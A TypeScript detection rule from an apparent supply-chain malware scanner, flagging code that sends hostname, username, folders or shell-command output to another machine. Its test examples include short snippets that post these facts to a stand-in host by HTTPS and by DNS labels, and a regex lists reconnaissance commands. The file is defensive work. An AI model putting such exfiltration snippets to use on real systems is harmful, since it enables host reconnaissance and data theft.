import { defineRule, oddTargetOf, outgoing, sinkSays, step, stepsOf } from '../src/define.js';
import type { AnyNode } from '../src/types.js';
import { IDENTIFYING_FACTS } from '../src/vocabulary/apis.js';

export default defineRule({
  meta: {
    summary: 'Sends who and where the machine is to another one',
    why: 'Dependency-confusion probes and first stages report host name, user name, folders and addresses home. Telemetry sends the platform and versions, at most a hashed machine id; one fact alone, or facts about software only, are not flagged. (GENIE, SecDev 2024: three kinds of fact into one sink.)',
    behaviour: 'theft',
    messages: {
      fingerprint: 'Sends {facts} through {sink}',
      pair: 'Sends {facts} through {sink}',
      odd: 'Sends the {facts} to {address}',
      output: 'Sends what a shell command prints ({command}) through {sink}',
    },
    bits: { fingerprint: 11, pair: 8, output: 10, odd: 9 },
  },
  examples: {
    flags: [
      {
        title: 'host, user and folder are posted',
        code: `const os = require('os'), https = require('https');\nconst data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname });\nconst req = https.request({ hostname: 'collect.invalid', method: 'POST' });\nreq.write(data);\nreq.end();`,
      },
      {
        title: 'they leave as labels of a DNS question',
        code: `const dns = require('dns'), os = require('os');\nconst id = Buffer.from(os.hostname() + '|' + os.userInfo().username + '|' + process.cwd()).toString('hex');\ndns.lookup(id + '.collect.invalid', () => {});`,
      },
    ],
    passes: [
      {
        title: 'an id that was kept in a file of the user is sent',
        code: `import fs from 'fs-extra';\nimport os from 'os';\nconst { id } = await fs.readJSON(os.homedir() + '/' + os.userInfo().username + '/id.json');\nfetch('https://stats.invalid', { method: 'POST', body: JSON.stringify({ id }) });`,
      },
      {
        title: 'the platform chooses a download',
        code: `const os = require('os');\nfetch('https://download.invalid/tool-' + os.platform() + '-' + os.arch() + '.tar.gz');`,
      },
      {
        title: 'a client says which version it is',
        code: `fetch('https://api.invalid', { headers: { 'user-agent': 'tool/1 ' + process.platform + ' ' + process.version } });`,
      },
      {
        title: 'a server prints where it listens',
        code: `const os = require('os');\nconsole.log(os.hostname(), os.networkInterfaces(), os.userInfo());`,
      },
    ],
  },
  file(context) {
    // What one request sends may be written to it in pieces, so facts are counted per file of sinks.
    for (const { call, labels } of outgoing(context)) {
      const facts = labels.filter(({ kind }) => kind === 'system');
      const identifying = facts.filter(
        ({ detail }, at) => IDENTIFYING_FACTS.has(detail) && facts.findIndex(other => other.detail === detail) === at,
      );
      if (identifying.length >= 2) {
        const [first, ...others] = identifying as [(typeof facts)[number], ...typeof facts];
        context.report({
          messageId: identifying.length >= 3 ? 'fingerprint' : 'pair',
          data: { facts: [...new Set(identifying.map(({ detail }) => detail))].join(', '), sink: call.name },
          chain: [
            ...stepsOf(first),
            ...others.slice(0, 4).flatMap(label => stepsOf(label).slice(0, 1)),
            step('sink', sinkSays(call), context.file, call.node),
          ],
        });
      } else if (identifying[0]) {
        const address = oddTargetOf(context, call);
        if (address)
          context.report({
            messageId: 'odd',
            data: { facts: identifying[0].detail, address },
            chain: [...stepsOf(identifying[0]), step('sink', sinkSays(call), context.file, call.node)],
          });
      }
      const printed = labels.find(({ kind }) => kind === 'command-output');
      if (!printed || call.name.startsWith('child_process.')) continue;
      const command = (printed.origin.node as { arguments?: AnyNode[] }).arguments?.[0];
      const texts = command && printed.origin.file === context.file ? context.textsOf(command) : [];
      if (
        !texts.some(text =>
          /\b(?:hostname|whoami|id|uname|ip (?:a|addr)|ifconfig|ipconfig|env|printenv|cat|ls|pwd|ps|systeminfo|tasklist|net user)\b/.test(
            text,
          ),
        )
      )
        continue;
      context.report({
        messageId: 'output',
        data: { command: texts[0] ?? '', sink: call.name },
        chain: [...stepsOf(printed), step('sink', sinkSays(call), context.file, call.node)],
      });
    }
  },
});
